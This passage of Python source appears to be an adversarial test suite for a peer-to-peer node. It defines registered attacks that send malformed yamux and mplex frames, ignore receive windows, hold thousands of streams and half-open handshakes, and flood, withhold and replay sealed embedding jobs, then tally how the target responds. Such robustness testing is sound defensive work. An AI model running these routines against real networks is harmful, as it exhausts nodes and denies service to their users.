    ("declared-4GiB-frame", wire.yamux_open(1) + YamuxFrame(wire.YAMUX_DATA, 0, 1, 0xFFFFFFFF).header()),
    ("data-stream-0", wire.yamux_data(0, b"x" * 16)),
    ("truncated-header", b"\x00\x00\x00"),
]


async def _malformed_frames(
    context: Context, outcome: Outcome, muxer: str, frames: list[tuple[str, bytes]]
) -> None:
    deadline = trio.current_time() + context.duration
    for label, frame in frames:
        if trio.current_time() > deadline:
            return
        link = await _held_link(context, outcome, muxer)
        if link is None:
            if "refused" in outcome.notes:
                return  # the muxer is not offered: nothing to send malformed frames on
            continue
        outcome.sent += 1
        try:
            await link.write(frame)
            closed = await _closed_within(link, 2.0)
        except Exception:
            closed = True
        outcome.notes[label] = "connection closed" if closed else "connection kept"
        if closed:
            outcome.refused += 1
        await link.close()


@attack("mplex-malformed", "muxer")
async def mplex_malformed(context: Context, outcome: Outcome) -> None:
    """Negotiate /mplex/6.7.0 (a muxer the node never meant to offer) and send malformed frames."""
    await _malformed_frames(context, outcome, wire.MPLEX, MPLEX_FRAMES)


@attack("yamux-malformed", "muxer")
async def yamux_malformed(context: Context, outcome: Outcome) -> None:
    """Malformed yamux frames, one connection each: bad version/type/flags/ids, window overflow."""
    await _malformed_frames(context, outcome, wire.YAMUX, YAMUX_FRAMES)


async def _open_ping_stream(link: SecureLink, stream_id: int) -> None:
    await link.write(wire.yamux_open(stream_id) + wire.yamux_data(stream_id, wire.multistream_open(PING)))


@attack("yamux-window-violation", "muxer")
async def yamux_window_violation(context: Context, outcome: Outcome) -> None:
    """Ignore the receive window: 64 KiB data frames on a ping stream, never granting window back."""
    link = await _held_link(context, outcome)
    if link is None:
        return
    started = trio.current_time()
    total = context.count(256 << 20)  # bytes
    chunk = os.urandom(60 * 1024)
    try:
        async with trio.open_nursery() as nursery:

            async def watch() -> None:
                await wire.yamux_drain(link)
                outcome.cut_off_after = round(trio.current_time() - started, 3)
                nursery.cancel_scope.cancel()

            nursery.start_soon(watch)
            await _open_ping_stream(link, 1)
            with trio.move_on_after(context.duration):
                while outcome.bytes_sent < total:
                    await link.write(wire.yamux_data(1, chunk))
                    outcome.sent += 1
                    outcome.bytes_sent += len(chunk)
                await trio.sleep(max(0.0, started + context.duration - trio.current_time()))
            nursery.cancel_scope.cancel()
    except Exception as exc:
        outcome.refused += 1
        outcome.notes["ended"] = f"{type(exc).__name__}"
    finally:
        await link.close()


@attack("yamux-unfinished-frames", "muxer")
async def yamux_unfinished_frames(context: Context, outcome: Outcome) -> None:
    """Data frames declaring 16 MiB, sent to one byte short and held (one per connection)."""
    declared = 16 << 20
    connections = context.count(12)
    body = os.urandom(1 << 20)
    started = trio.current_time()
    deadline = started + context.duration

    async def one(index: int) -> None:
        link = await _held_link(context, outcome)
        if link is None:
            return
        try:
            async with trio.open_nursery() as nursery:

                async def watch() -> None:
                    await wire.yamux_drain(link)
                    outcome.refused += 1
                    if outcome.cut_off_after is None:
                        outcome.cut_off_after = round(trio.current_time() - started, 3)
                    nursery.cancel_scope.cancel()

                nursery.start_soon(watch)
                await _open_ping_stream(link, 1)
                await link.write(YamuxFrame(wire.YAMUX_DATA, 0, 1, declared).header())
                outcome.sent += 1
                remaining = declared - 1
                while remaining and trio.current_time() < deadline:
                    piece = body[: min(len(body), remaining)]
                    await link.write(piece)
                    outcome.bytes_sent += len(piece)
                    remaining -= len(piece)
                await trio.sleep_until(deadline)
                nursery.cancel_scope.cancel()
        except Exception as exc:
            outcome.notes["ended"] = f"{type(exc).__name__}"
        finally:
            await link.close()

    async with trio.open_nursery() as nursery:
        for index in range(connections):
            nursery.start_soon(one, index)


@attack("held-streams", "muxer")
async def held_streams(context: Context, outcome: Outcome) -> None:
    """10,000 yamux streams opened (SYN + a ping selection) on one connection and held."""
    link = await _held_link(context, outcome)
    if link is None:
        return
    started = trio.current_time()
    deadline = started + context.duration
    try:
        async with trio.open_nursery() as nursery:

            async def watch() -> None:
                await wire.yamux_drain(link)
                outcome.cut_off_after = round(trio.current_time() - started, 3)
                nursery.cancel_scope.cancel()

            nursery.start_soon(watch)
            batch = bytearray()
            for index in range(context.count(10_000)):
                stream_id = 2 * index + 1
                batch += wire.yamux_open(stream_id) + wire.yamux_data(stream_id, wire.multistream_open(PING))
                outcome.sent += 1
                if len(batch) > 32_000:
                    await link.write(bytes(batch))
                    outcome.bytes_sent += len(batch)
                    batch.clear()
                    if trio.current_time() > deadline:
                        break
            if batch:
                await link.write(bytes(batch))
                outcome.bytes_sent += len(batch)
            await trio.sleep_until(deadline)
            nursery.cancel_scope.cancel()
    except Exception as exc:
        outcome.notes["ended"] = f"{type(exc).__name__}"
    finally:
        await link.close()


# ------------------------------------------------------------------------------- handshakes


@attack("half-open-handshakes", "handshake")
async def half_open_handshakes(context: Context, outcome: Outcome) -> None:
    """288 TCP connections from 127.0.0.2 that never finish PSK/Noise (half send the PSK nonce),
    reopened when closed; meanwhile a fresh identity on 127.0.0.1 tries to connect once a second."""
    count = context.count(288)
    started = trio.current_time()
    deadline = started + context.duration
    honest = {"tried": 0, "connected": 0}

    async def hold(index: int) -> None:
        while trio.current_time() < deadline:
            try:
                stream = await wire.open_tcp(context.target, source=HALF_OPEN_SOURCE)
            except OSError:
                outcome.refused += 1
                await trio.sleep(0.2)
                continue
            outcome.sent += 1
            try:
                if index % 2:
                    await stream.send_all(os.urandom(wire_nonce_size()))
                with trio.move_on_at(deadline):
                    while await stream.receive_some(4096):
                        pass
                    outcome.refused += 1  # the target closed it: reopen
            except Exception:
                outcome.refused += 1
            finally:
                await stream.aclose()

    async def honest_dials() -> None:
        await trio.sleep(1.0)
        while trio.current_time() < deadline - 1.0:
            honest["tried"] += 1
            async with attacker_host(context) as host:
                if await connect(host, context.target):
                    honest["connected"] += 1
            await trio.sleep(1.0)

    async with trio.open_nursery() as nursery:
        for index in range(count):
            nursery.start_soon(hold, index)
        nursery.start_soon(honest_dials)
    outcome.notes["fresh_identity_dials"] = honest["tried"]
    outcome.notes["fresh_identity_connected"] = honest["connected"]


def wire_nonce_size() -> int:
    from node.net.pnet import NONCE_SIZE

    return NONCE_SIZE


# -------------------------------------------------------------------------------------- jobs


def sealed_embeddings_jobs(bundle_bytes: bytes, texts: int, deadline_s: float = 50.0) -> list[bytes]:
    """Valid job frames (a JobRequest and its RevealRequest) for every model the bundle lists.

    Anyone can build these: the executor's encryption key is in its public bundle. The client is
    unattested; executors serve it like any other.
    """
    from protocol.attestation.bundle import AttestationBundle
    from protocol.jobs.messages import JobRequest, Mode, RevealRequest, Task
    from protocol.jobs.payloads import EmbeddingsInput
    from protocol.sealing import seal_job

    bundle = AttestationBundle.from_wire(bundle_bytes)
    frames = []
    payload = EmbeddingsInput(
        tuple(f"adversary text {index} {os.urandom(4).hex()}" for index in range(texts))
    )
    for model_id in bundle.models:
        job_id = os.urandom(16)
        deadline_ms = int((time.time() + deadline_s) * 1000)
        sealed = seal_job(
            payload.to_bytes(),
            recipient_pubkey=bundle.enc_pubkey,
            job_id=job_id,
            model_id=model_id,
            deadline_ms=deadline_ms,
        )
        request = JobRequest(
            job_id=job_id,
            model_id=model_id,
            task=Task.EMBEDDINGS,
            deadline_ms=deadline_ms,
            client_pubkey=sealed.client_keys.public,
            executor_enc_pubkey=bundle.enc_pubkey,
            input_nonce=sealed.envelope.nonce,
            sealed_input=sealed.envelope.ciphertext,
            mode=Mode.CONSENSUS,
            stream=False,
        )
        frames.append(frame4(request.to_wire()) + frame4(RevealRequest(job_id=job_id).to_wire()))
    return frames


async def _job_streams(context: Context, outcome: Outcome, streams: int, texts: int, read: bool) -> None:
    deadline = trio.current_time() + context.duration
    async with connected_host(context, outcome) as host:
        bundle = await target_bundle(host, context, outcome)
        held: list[INetStream] = []

        async def one() -> None:
            while trio.current_time() < deadline:
                stream = await open_stream(host, context.target, JOB)
                if stream is None:
                    outcome.refused += 1
                    return
                held.append(stream)
                try:
                    for frames in sealed_embeddings_jobs(bundle, texts):
                        await stream.write(frames)
                        outcome.sent += 1
                        outcome.bytes_sent += len(frames)
                except Exception:
                    outcome.refused += 1
                    return
                if not read:
                    return  # never read the results: the executor's writes fill our window
                tally(outcome, await read_answer(stream, timeout=max(0.1, deadline - trio.current_time())))
                await reset_quietly(stream)

        async with trio.open_nursery() as nursery:
            for _ in range(streams):
                nursery.start_soon(one)
        await trio.sleep(max(0.0, deadline - trio.current_time()))
        for stream in held:
            await reset_quietly(stream)


@attack("job-no-read", "jobs")
async def job_no_read(context: Context, outcome: Outcome) -> None:
    """Valid jobs with large results (256 texts) on 70 streams whose results are never read."""
    await _job_streams(context, outcome, context.count(70), texts=256, read=False)


@attack("greedy-client", "jobs")
async def greedy_client(context: Context, outcome: Outcome) -> None:
    """One unattested client keeping 16 jobs of 64 texts in flight, for the whole budget."""
    await _job_streams(context, outcome, context.count(16), texts=64, read=True)


@attack("job-replay", "jobs")
async def job_replay(context: Context, outcome: Outcome) -> None:
    """One valid job (2 texts) sent, then replayed 50 times on the same stream and on fresh ones."""
    async with connected_host(context, outcome) as host:
        bundle = await target_bundle(host, context, outcome)
        frames = b"".join(sealed_embeddings_jobs(bundle, texts=2))
        deadline = trio.current_time() + context.duration
        for round_index in range(context.count(50)):
            if trio.current_time() > deadline:
                break
            stream = await open_stream(host, context.target, JOB)
            if stream is None:
                outcome.refused += 1
                continue
            try:
                await stream.write(frames * (1 + round_index % 3))  # replayed on the same stream too
                outcome.sent += 1
                outcome.bytes_sent += len(frames)
            except Exception:
                outcome.refused += 1
                continue
            tally(outcome, await read_answer(stream, timeout=2.0))
            await reset_quietly(stream)
